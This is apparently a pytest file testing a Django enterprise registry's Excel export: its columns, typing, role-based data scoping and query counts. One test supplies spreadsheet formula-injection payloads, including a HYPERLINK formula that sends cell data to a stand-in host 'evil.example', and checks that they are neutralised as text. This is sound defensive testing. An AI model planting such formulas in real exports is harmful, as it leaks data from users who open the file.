"""Enterprise Excel export: read the produced .xlsx back with openpyxl."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from enterprises.models import Enterprise, IndustrialZone
from enterprises.spreadsheet import COLUMNS

from ..factories import EnterpriseFactory

pytestmark = pytest.mark.django_db

URL = reverse("enterprises:export")


def export(client, query: dict | None = None, language: str = "vi"):
    client.cookies["django_language"] = language
    response = client.get(URL, query or {})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith("attachment;")
    data = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(data)).worksheets[0]


def column(ws, key: str) -> list:
    index = [k for k, _label in COLUMNS].index(key)
    return [r[index].value for r in ws.iter_rows(min_row=2)]


def test_export_needs_login(client):
    response = client.get(URL)
    assert response.status_code == 302 and "/accounts/login/" in response.url


@pytest.mark.parametrize("language", ["vi", "en"])
def test_export_headers_numbers_frozen_pane_and_filter(login, doit_user, district_b, language):
    zone = IndustrialZone.objects.create(name="KCN Bắc Thăng Long", district=district_b)
    e = EnterpriseFactory(
        name="Công ty TNHH Xuất Khẩu",
        district=district_b,
        industrial_zone=zone,
        employees=1234,
        ownership=Enterprise.Ownership.FDI,
        size=Enterprise.Size.MEDIUM,
        is_designated_energy_user=True,
        contact_email="a@example.vn",
    )
    EnterpriseFactory(employees=7)

    ws = export(login(doit_user), language=language)

    with translation.override(language):
        expected_headers = [str(label) for _key, label in COLUMNS]
        yes, no = str(translation.gettext("Yes")), str(translation.gettext("No"))
        fdi, medium = str(Enterprise.Ownership.FDI.label), str(Enterprise.Size.MEDIUM.label)
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == expected_headers
    assert len(rows) == 3
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:R{len(rows)}"

    [mine] = [r for r in rows[1:] if r[0].value == e.tax_code]
    values = dict(zip([k for k, _label in COLUMNS], mine, strict=True))
    assert values["employees"].value == 1234 and values["employees"].data_type == "n"
    assert isinstance(values["employees"].value, int)
    assert values["district_code"].value == "017" and values["district_code"].data_type == "s"  # keeps its zero
    assert values["commune_code"].value == "00454" and values["commune_name"].value == "Xã Đông Anh"
    assert values["sector_code"].value == e.sector.code
    assert values["district_name"].value == district_b.name
    assert values["industrial_zone"].value == "KCN Bắc Thăng Long"
    assert values["ownership"].value == fdi and values["size"].value == medium
    assert values["is_designated_energy_user"].value == yes and values["active"].value == yes
    assert values["contact_email"].value == "a@example.vn"
    assert no != yes
    assert sorted(column(ws, "employees")) == [7, 1234]


def test_officer_export_holds_only_their_district(login, officer_a, enterprise_x, enterprise_y):
    EnterpriseFactory(district=enterprise_y.district)
    ws = export(login(officer_a))
    assert column(ws, "tax_code") == [enterprise_x.tax_code]
    assert set(column(ws, "district_code")) == {"006"}


def test_officer_cannot_widen_export_with_a_district_filter(login, officer_a, enterprise_x, enterprise_y):
    ws = export(login(officer_a), {"district": enterprise_y.district_id})
    assert enterprise_y.tax_code not in column(ws, "tax_code")


def test_enterprise_staff_export_holds_only_their_enterprise(login, staff_x, enterprise_y):
    ws = export(login(staff_x))
    assert column(ws, "tax_code") == [staff_x.enterprise.tax_code]


def test_export_follows_the_list_filters(login, doit_user, enterprise_x, enterprise_y):
    ws = export(login(doit_user), {"q": "nhua dong anh"})
    assert column(ws, "tax_code") == [enterprise_y.tax_code]
    ws = export(login(doit_user), {"district": enterprise_x.district_id})
    assert column(ws, "tax_code") == [enterprise_x.tax_code]


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(A1:A2)", "=1+1"],
)
def test_formula_like_text_is_written_as_text(login, doit_user, text):
    e = EnterpriseFactory(name=text, contact_name=text)
    ws = export(login(doit_user))
    [mine] = [r for r in ws.iter_rows(min_row=2) if r[0].value == e.tax_code]
    values = dict(zip([k for k, _label in COLUMNS], mine, strict=True))
    for key in ("name", "contact_name"):
        c = values[key]
        assert c.value == text
        assert c.data_type == "s"  # never "f"
        assert c.quotePrefix is True


def test_plain_text_gets_no_quote_prefix(login, doit_user, enterprise_x):
    ws = export(login(doit_user))
    name_cell = next(ws.iter_rows(min_row=2))[1]
    assert name_cell.value == enterprise_x.name and name_cell.quotePrefix is False


def test_empty_export_still_has_headers(login, officer_b):
    ws = export(login(officer_b))
    rows = list(ws.iter_rows(values_only=True))
    assert len(rows) == 1 and rows[0][0]


def test_export_query_count_does_not_grow_with_rows(login, doit_user, django_assert_max_num_queries):
    client = login(doit_user)
    EnterpriseFactory.create_batch(3)
    with django_assert_max_num_queries(5):  # with the CP contacts sheet
        export(client)
    EnterpriseFactory.create_batch(60, district=EnterpriseFactory().district)
    with django_assert_max_num_queries(5):
        ws = export(client)
    assert ws.max_row == 65
